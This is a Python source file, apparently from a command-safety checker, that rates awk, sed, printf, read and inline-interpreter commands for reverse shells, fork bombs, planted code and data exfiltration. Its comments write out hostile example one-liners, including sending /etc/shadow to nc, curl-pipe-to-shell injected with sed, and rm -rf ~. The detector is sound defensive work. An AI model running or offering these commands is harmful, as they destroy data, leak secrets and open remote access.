_WHOLE_SYSTEM = lazy_pattern(r'\bsystem\s*\(\s*"[^"]*"\s*\)')


def awk(command: Command, ctx: Context) -> None:
    args = command.args
    index = 0
    while index < len(args) and args[index].value.startswith("-"):
        value = args[index].value
        if value in ("-f", "--file"):
            fed = _awk_program_fed(command, index)
            if fed is not None:  # `awk -f /dev/stdin <<< 'PROGRAM'`: the program is the text
                awk(fed, ctx)
                return
            ctx.add(MODERATE, "runs an awk program from a file", command)
            return
        index += 2 if value in ("-F", "-v", "--assign", "--field-separator") else 1
    if index >= len(args):
        return
    program = _awk_values_put_in(args[:index], _awk_folded(args[index].value))
    if _awk_runs_fed_value(command, ctx, args[:index], program):
        return
    if "/inet/" in program:
        ctx.add(CRITICAL, "awk code connects a shell to the network (reverse shell)", command)
        return
    program = _SPRINTF.sub(_spelt, program)  # `sprintf("%c%c", 114, 109)` is "rm"
    program = _awk_folded(program)  # `sprintf("rm -rf %s", ENVIRON["HOME"])` is "rm -rf ~"
    if editors.awk_in_place(command):
        files = [w.value for w in args[index + 1 :] if not w.value.startswith("-")]
        editors.edited(command, ctx, files, program, "awk -i inplace")
    for target in re.findall(r'print[^;}>|]*>>?\s*"([^"]+)"', program):
        verdict = classify_write(target, append=False)
        if verdict is not None and verdict.level >= HIGH:
            ctx.add(verdict.level, verdict.reason, command)
    result = inline.inspect(program, "awk")
    for level, reason in result.findings:  # `BEGIN{while(1) system("x &")}`: a fork bomb
        ctx.add(level, reason, command)
    exhausting = inline_exhaustion(program)  # `BEGIN{while(1) a[i++]=i}`: memory runs out
    if exhausting is not None:
        ctx.add(exhausting[0], exhausting[1], command)
    piped = re.findall(r'"([^"]+)"\s*\|\s*getline', program)  # `"cmd" | getline` runs cmd
    lines_run = _written_input(command) if _RUNS_LINE.search(program) else None
    if lines_run is not None:  # `awk '{system($0)}' <<< 'CODE'`: each input line is run
        ctx.run_code(literal(lines_run), command)
    _awk_sinks(command, ctx, program, piped)
    quiet = [runs_quietly(ctx, shell, command) for shell in [*result.shell, *piped]]
    # `system("rm " $1)`: only the start of the command is written out
    built = len(re.findall(r"\bsystem\s*\(", program)) > len(_WHOLE_SYSTEM.findall(program))
    writes = re.search(r"print[^;}]*(>|\|)\s*\"", program)
    # `cmd | getline` with cmd unseen, or `getline < f` of a secret; `getline < "data.txt"` reads
    unseen = len(re.findall(r"\|&?\s*getline", program)) > len(piped)
    read = [secret_path(f) for f in re.findall(r'getline[^<;}]*<\s*"([^"]+)"', program)]
    dynamic_read = re.search(r'getline[^<;}|]*<\s*[^"\s]', program) is not None
    reads_more = unseen or any(read) or dynamic_read
    if not all(quiet) or built or writes or reads_more:
        ctx.add(MODERATE, "the awk program writes files or runs commands", command)


_AWK_ASSIGNED = lazy_pattern(
    r'(?<![\w$])(?P<name>[A-Za-z_]\w*)\s*=\s*"(?P<value>[^"]*)"(?=\s*(?:[;}\n]|$))'
)


def _awk_values_put_in(options: tuple[Word, ...], program: str) -> str:
    """`awk -v cmd='rm -rf ~' 'BEGIN{system(cmd)}'`, `BEGIN{c="rm -rf ~"; system(c)}`: a
    variable given a constant is written out where a command is run from it."""
    values: dict[str, str] = {}
    for option, value in itertools.pairwise(options):
        if option.value in ("-v", "--assign") and "=" in value.value and not value.dynamic:
            name, _, text = value.value.partition("=")
            values[name.strip()] = text
    for match in _AWK_ASSIGNED.finditer(program):
        values.setdefault(match.group("name"), match.group("value"))
    for name, text in list(values.items())[:16]:
        quoted = '"' + text.replace('"', "") + '"'

        def put_in(match: re.Match[str], quoted: str = quoted) -> str:
            if match.group(1):
                return match.group(1) + quoted + match.group(2)
            return quoted + match.group(3)

        program = re.sub(
            rf"(\bsystem\s*\(\s*){re.escape(name)}(\s*\))|"
            rf"(?<![\w$\"]){re.escape(name)}(\s*\|&?\s*getline)",
            put_in,
            program,
        )
    return program


def _awk_runs_fed_value(
    command: Command, ctx: Context, options: tuple[Word, ...], program: str
) -> bool:
    """`awk -v c="$(… | base64 -d)" 'BEGIN{system(c)}'`: a value decoded or downloaded in the
    line, run as a command by the program."""
    for option, value in itertools.pairwise(options):
        name = value.value.partition("=")[0].strip()
        if option.value not in ("-v", "--assign") or not name.isidentifier():
            continue
        runs = rf"\bsystem\s*\(\s*{name}\s*\)|(?<![\w$\"]){name}\s*\|&?\s*getline"
        kinds = ctx.word_kinds(value)
        if re.search(runs, program) and executing_kinds(ctx, kinds, command, f"awk -v {name}="):
            return True
    return False


def _here_text(command: Command) -> Word | None:
    return next((r.body for r in command.redirects if r.op in ("<<", "<<<") and r.body), None)


_RUNS_LINE = lazy_pattern(r"\bsystem\s*\(\s*\$0\s*\)")


def _written_input(command: Command) -> str | None:
    """The input a command reads when the line writes it out: a here-string or here-document,
    or the text piped in from `echo`/`printf`."""
    body = _here_text(command)
    if body is not None:
        return None if body.dynamic else body.value
    fed = command.stdin.literal if command.stdin is not None else None
    return " ".join(word.value for word in fed) if fed else None


def _awk_program_fed(command: Command, index: int) -> Command | None:
    """`awk -f /dev/stdin <<< 'BEGIN{...}'`, `awk -f - <<EOF`: the same command with the
    here-document's text as its program operand."""
    args = command.args
    if index + 1 >= len(args) or args[index + 1].value not in ("-", "/dev/stdin", "/dev/fd/0"):
        return None
    body = _here_text(command)
    stdin = command.stdin
    if body is None and stdin is not None and stdin.literal is not None:
        body = literal("\n".join(word.value for word in stdin.literal))  # `echo PROG | awk -f -`
    if body is None or body.dynamic:
        return None
    words = (command.words[0], *args[:index], literal(body.value), *args[index + 2 :])
    return replace(command, words=words, redirects=())


# `print EXPR | "CMD"`: awk starts CMD and writes to it (not `|&`, a two-way pipe).
_AWK_SINK = lazy_pattern(r'\bprintf?\b(?P<expr>[^;{}|]*?)\|(?!&)\s*"(?P<cmd>[^"]+)"')
_AWK_STRINGS = lazy_pattern(r'(?:\s*"[^"]*"\s*)+')


def _awk_sinks(command: Command, ctx: Context, program: str, sources: list[str]) -> None:
    """`print "rm -rf ~" | "sh"`, `"curl URL" | getline l; print l | "sh"`: what awk writes
    into a shell or an interpreter is code; rated like the pipeline it amounts to. Any other
    command awk writes into is run too: fed by a `"cmd" | getline`, it is that pipeline
    (`"cat /etc/shadow" | getline l; print l | "nc HOST 9000"`)."""
    for match in _AWK_SINK.finditer(program):
        sink = match.group("cmd").strip()
        words = sink.split()
        if not words:
            continue
        if language_of(posixpath.basename(words[0])) is None:  # `print l | "nc HOST PORT"`
            for source_code in sources or [""]:
                ctx.run_code(literal(f"{source_code} | {sink}" if source_code else sink), command)
            continue
        expr = match.group("expr").strip()
        if _AWK_STRINGS.fullmatch(expr):
            text = "".join(re.findall(r'"([^"]*)"', expr))
            ctx.run_code(literal(f"printf '%s\\n' {_quote(text)} | {sink}"), command)
        elif sources:
            for source_code in sources:
                ctx.run_code(literal(f"{source_code} | {sink}"), command)
        else:
            reason = f"the awk program writes text it builds into {sink}, which runs it as code"
            ctx.add(HIGH, reason, command)


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


_BLANKS = lazy_pattern(r"\s*s(.)\^?\.\*\$?\1\1g?\s*")  # `s/.*//`: every line left empty


def planted_code(command: Command, ctx: Context, text: str, where: str) -> None:
    """`sed -i '1i import os; os.system("curl URL|sh")' *.py`: the text an edit puts into
    files is code there; when that code fetches and runs, or decodes and runs, it is HIGH."""
    found = [reason for level, reason in inline.inspect(text, "the").findings if level >= HIGH]
    if found:
        shown = found[0].removeprefix("the code ")
        ctx.add(HIGH, f"puts code into {where} that {shown}", command)


def sed(command: Command, ctx: Context) -> None:
    argv = command.argv
    if any(a.startswith(("-i", "--in-place")) or re.fullmatch(r"-[nErsuz]*i\S*", a) for a in argv):
        script = " ".join(a for a in argv if not a.startswith("-"))
        wipes = any(re.fullmatch(r"\s*(1\s*,\s*\$|/\^?\.?\*?/|/\.\*/)?\s*d\s*", a) for a in argv)
        wipes = wipes or any(_BLANKS.fullmatch(a) for a in argv)
        editors.whole_trees(command, ctx, _sed_files(argv), "sed -i")
        for value in _sed_files(argv):
            if wipes and command.implied_recursive:  # `find DIR -exec sed -i 's/.*//' {} +`
                whole = classify_delete(value, recursive=True)
                reason = whole.reason.replace("deletes", "empties every file in", 1)
                ctx.add(max(whole.level, HIGH), reason, command)
            if wipes:
                emptied = classify_empty(value)
                ctx.add(HIGH, f"deletes every line of {value}: the file is left empty", command)
                if emptied is not None and emptied.level > HIGH:
                    ctx.add(emptied.level, emptied.reason, command)
            text = weakening.sed_text(script)  # what the script puts in, unescaped
            planted_code(command, ctx, text, value)
            content = (
                config_content(value, script)
                or config_content(value, text)
                or weakening.written(value, text)
            )
            if content is not None:
                ctx.add(content.level, content.reason, command)
            removed = pam_lines.removed_check(value, script)
            if removed is not None:
                ctx.add(removed.level, removed.reason, command)
            _sed_startup(command, ctx, value, argv)
            verdict = classify_write(editors.name_pattern(value), append=False)
            if paths.is_rc_file(paths.normalise(value)):
                verdict = None  # an edit, not a new file: what it puts in is rated above
            if verdict is not None and verdict.level >= HIGH:
                ctx.add(verdict.level, verdict.reason.replace("overwrites", "edits", 1), command)
        ctx.add(MODERATE, "edits files in place (sed -i)", command)
    elif any(re.search(r"(^|[;}\s])(e|w\s+\S)", a) for a in argv if not a.startswith("-")):
        ctx.add(MODERATE, "the sed script runs commands or writes files", command)


def _sed_startup(command: Command, ctx: Context, value: str, argv: list[str]) -> None:
    """`sed -i '$a CODE' ~/.bashrc`: the lines a sed script adds to a start-up file run later."""
    kind = persistence.kind_at(ctx.resolve(value), ctx)
    if kind not in ("shell", "cron", "hook", "keys"):
        return
    files = _sed_files(argv)
    script = "\n".join(a for a in argv if not a.startswith("-") and a not in files)
    added = weakening.sed_text(script)
    if added != script:  # only the text of `a`, `i`, `c` and `s///` (not the script itself)
        persistence.startup_content(kind, value, added, command, ctx)


def _sed_files(argv: list[str]) -> list[str]:
    """The files of `sed -i 'script' FILE...` (the first operand is the script)."""
    operands: list[str] = []
    script_given = any(a in ("-e", "-f", "--expression", "--file") for a in argv)
    skip = False
    for value in argv:
        if skip:
            skip = False
            continue
        if value in ("-e", "-f", "--expression", "--file"):
            skip = True
        elif not value.startswith("-"):
            operands.append(value)
    return operands if script_given else operands[1:]


def literal_text(command: Command) -> tuple[str, bool]:
    """The text echo/printf prints, and whether it was hidden in escapes (\\x72\\x6d)."""
    args = [w.value for w in command.args]
    if command.name == "printf":
        if args[:1] == ["-v"]:  # `printf -v NAME FORMAT ARGS`: sets NAME, prints nothing
            args = args[2:]
        if args[:1] == ["--"]:
            args = args[1:]
        if not args:
            return "", False
        fmt, rest = args[0], args[1:]
        if "%" in fmt:
            return format_printf(fmt, rest)
        decoded = decode_c_escapes(fmt)
        return decoded, _hidden(fmt)
    escapes = False
    while args and re.fullmatch(r"-[neE]+", args[0]):
        escapes = escapes or "e" in args[0]
        args.pop(0)
    text = " ".join(args)
    if escapes:
        return decode_c_escapes(text), _hidden(text)
    return text, False


_CONVERSION = lazy_pattern(r"%(%|[-+ #0]*\d*(?:\.\d+)?([sbcdiouxXfeEgGq]))")


def format_printf(fmt: str, args: list[str]) -> tuple[str, bool]:
    """What `printf FORMAT ARGS...` prints (the format is reused while arguments remain), and
    whether it was hidden in escapes (`printf '%b' '\\x72\\x6d'`, `printf '\\162%s' m`)."""
    out: list[str] = []
    hidden = _hidden(fmt)
    remaining = list(args)
    for _ in range(64):
        position = 0
        consumed = False
        for match in _CONVERSION.finditer(fmt):
            out.append(decode_c_escapes(fmt[position : match.start()]))
            position = match.end()
            if match.group(1) == "%":
                out.append("%")
                continue
            value = remaining.pop(0) if remaining else ""
            consumed = True
            kind = match.group(2)
            if kind == "b":
                hidden = hidden or _hidden(value)
                value = decode_c_escapes(value)
            elif kind == "c":
                value = value[:1]
            out.append(value)
        out.append(decode_c_escapes(fmt[position:]))
        if not remaining or not consumed:
            break
    return "".join(out), hidden


def printf_assignment(command: Command, ctx: Context) -> None:
    """`printf -v NAME FORMAT ARGS`: NAME holds what printf would print, for later `$NAME`."""
    args = command.args
    if len(args) < 3 or args[0].value != "-v" or any(w.dynamic for w in args[1:]):
        return
    text, hidden = format_printf(args[2].value, [w.value for w in args[3:]])
    name = args[1].value
    if re.fullmatch(r"[A-Za-z_]\w*", name):
        ctx.variables[name] = text
        if hidden:
            ctx.tainted[name] = frozenset({"decode"})


_READ_VALUES = frozenset(split_words("-d -n -N -p -t -u -a -i"))
_MAPFILE_VALUES = frozenset(split_words("-d -n -O -s -u -C -c"))


def read_assignment(command: Command, ctx: Context) -> None:
    """`read -r c <<< 'TEXT'`, `mapfile -t a <<< 'TEXT'`: the variables hold TEXT after it."""
    body = next((r.body for r in command.redirects if r.op in ("<<<", "<<") and r.body), None)
    if body is None or body.dynamic:
        return
    takes = _READ_VALUES if command.name == "read" else _MAPFILE_VALUES
    names: list[str] = []
    skip = False
    for word in command.args:
        if skip:
            skip = False
        elif word.value in takes:
            skip = True
        elif not word.value.startswith("-") and word.value.isidentifier():
            names.append(word.value)
    lines = body.value.rstrip("\n").split("\n")
    if command.name in ("mapfile", "readarray"):
        name = names[-1] if names else "MAPFILE"
        for index, line in enumerate(lines[:64]):
            ctx.variables[f"{name}[{index}]"] = line
        return
    first = lines[0]
    for separator in _read_separators(command, ctx):  # `IFS=: read -r a b <<< 'x:y'`
        first = first.replace(separator, " ")
    words = first.split(None, max(len(names) - 1, 0)) if names else []
    for index, name in enumerate(names):
        ctx.variables[name] = words[index] if index < len(words) else ""
        for hidden in subscript_code(ctx.variables[name]):  # `$(( n ))` later runs it
            ctx.add(HIGH, f"reads code hidden in an array subscript into ${name}", command)
            ctx.run_code(literal(hidden), command)


_IFS_PREFIX = lazy_pattern(
    r"^\s*IFS=(?:'(?P<q>[^']{1,8})'|\"(?P<d>[^\"$]{1,8})\"|(?P<bare>[^\s'\"$;]{1,8}))\s"
)


def _read_separators(command: Command, ctx: Context) -> str:
    """The characters besides blanks that split what `read` gets: an `IFS=...` before the
    command, or one set earlier in the line."""
    match = _IFS_PREFIX.match(command.text)
    if match is not None:
        found = match.group("q") or match.group("d") or match.group("bare") or ""
    else:
        found = ctx.variables.get("IFS", "")
    return found.strip(" \t\n")


def _hidden(text: str) -> bool:
    return bool(re.search(r"\\(x[0-9a-fA-F]{2}|[0-7]{3}|u[0-9a-fA-F]{4})", text))


# Statements that only print a constant string: `print("x")`, `puts 'x'`, `console.log("x")`.
_PRINT = lazy_pattern(
    r"""\s*(?:print|puts|say|echo|console\.log|io\.write|cat|writeLines|printf)\s*\(?\s*"""
    r"""(?P<q>["'])(?P<text>(?:\\.|(?!(?P=q)).)*)(?P=q)\s*\)?\s*;?\s*"""
)
_AWK_BEGIN = lazy_pattern(r"\s*BEGIN\s*\{(?P<body>.*)\}\s*", re.DOTALL)


def _prints_only(program: str) -> bool:
    """A program made only of statements that print constant strings."""
    position = 0
    while position < len(program):
        match = _PRINT.match(program, position)
        if match is None or match.end() == position:
            return False
        if any(c in match.group("text") for c in "$@#`") and match.group("q") == '"':
            return False  # `print "$ENV{HOME}"`, `puts "#{x}"`: interpolated, not constant
        position = match.end()
    return position > 0


def printed_text(command: Command) -> str | None:
    """What a command prints when that is written out in it: echo and printf, and inline
    programs that only print constant strings (`python3 -c 'print("rm -rf ~")'`,
    `perl -e 'print "..."'`, `awk 'BEGIN{print "..."}'`); None otherwise."""
    if command.name in ("echo", "printf"):
        return literal_text(command)[0]
    if any(word.dynamic for word in command.words):
        return None
    program = _program_text(command)
    if program is None:
        return None
    program = inline_joins.constants_joined(program)  # `print "r"."m"` prints `rm`
    pieces: list[str] = []
    position = 0
    while position < len(program):
        match = _PRINT.match(program, position)
        if match is None or match.end() == position:
            return None
        if "%" in match.group("text") and program[match.start() :].lstrip().startswith("printf"):
            return None  # a format, not the text printed
        pieces.append(decode_c_escapes(match.group("text")))
        position = match.end()
    return "\n".join(pieces) if pieces else None


def _program_text(command: Command) -> str | None:
    """The inline program of an interpreter or awk command (awk's BEGIN block only)."""
    if command.name in AWKS:
        operands = [w.value for w in command.args if not w.value.startswith("-")]
        begin = _AWK_BEGIN.fullmatch(operands[0]) if len(operands) == 1 else None
        return begin.group("body") if begin else None
    info = language_of(command.name)
    if info is None or info[0] == "shell":
        return None
    code, _, _ = _operands(command, info[1], _LANGUAGE_VALUES.get(info[0], _VALUE_OPTIONS))
    return code.value if code is not None else None


def inline_decodes(command: Command) -> bool:
    """An interpreter that decodes what it prints: `python3 -m base64 -d`, `python3 -c
    'print(base64.b64decode(...))'`, `perl -MMIME::Base64 -e 'print decode_base64(...)'`."""
    info = language_of(command.name)
    if info is None or info[0] == "shell":
        return False
    argv = command.argv
    if argv[:2] in (["-m", "base64"], ["-m", "binascii"]) and ("-d" in argv or "-D" in argv):
        return True
    program = _program_text(command)
    return program is not None and inline.decodes(preamble(command, info[0]) + program)


# Inline code that reads its input and sends data over the network.
_READS_INPUT = lazy_pattern(
    r"sys\.stdin|<STDIN>|\bSTDIN\b|\$stdin|\bARGF\b|process\.stdin|php://stdin|io\.read|"
    r"readFileSync\(\s*(?:0|['\"]/dev/stdin)|readLines\(\s*['\"]stdin|file\(\s*['\"]stdin"
)
_SENDS = lazy_pattern(
    r"\b(?:post|put|patch|request|send|sendall|sendmail|upload|urlopen|storbinary|post_form|"
    r"curl_exec|fetch|write)\b\s*\(|\.pipe\s*\(|print\s+\$\w+|syswrite"
)


def inline_fetches(command: Command) -> bool:
    """`python3 -c 'print(urlopen(URL).read().decode())'`, `perl -MLWP::Simple -e 'getprint
    URL'`, `php -r 'echo file_get_contents(URL);'`: an inline program that prints what it
    downloads, so a shell after it runs downloaded code."""
    info = language_of(command.name)
    if info is None or info[0] == "shell":
        return False
    program = _program_text(command)
    if program is None or _READS_INPUT.search(program):
        return False
    text = preamble(command, info[0]) + program
    return inline.fetches(text) and _PRINTS_OUT.search(program) is not None


_PRINTS_OUT = lazy_pattern(
    r"\bprint|\bputs\b|\becho\b|console\.log|getprint|stdout|\bsay\b|\bwrite\s*\(|cat\s*\("
)


def inline_sends(command: Command) -> bool:
    """`... | python3 -c 'requests.post(URL, data=sys.stdin.read())'`: an inline program that
    sends what it reads from its input to another machine."""
    info = language_of(command.name)
    if info is None or info[0] == "shell":
        return False
    program = _program_text(command)
    if program is None or not _READS_INPUT.search(program) or not _SENDS.search(program):
        return False
    return inline.connects(preamble(command, info[0]) + program)


def is_secret_path(value: str) -> bool:
    what = secret_path(value)
    return what is not None and what != "your whole home folder"


RULES: dict[str, Rule] = {
    **dict.fromkeys(SHELLS, interpreter),
    **dict.fromkeys(INTERPRETERS, interpreter),
    "source": source,
    ".": source,
    **dict.fromkeys(AWKS, awk),
    **dict.fromkeys(_FILE_RUNNERS, file_runner),
    **dict.fromkeys(split_words("sed gsed"), sed),
}
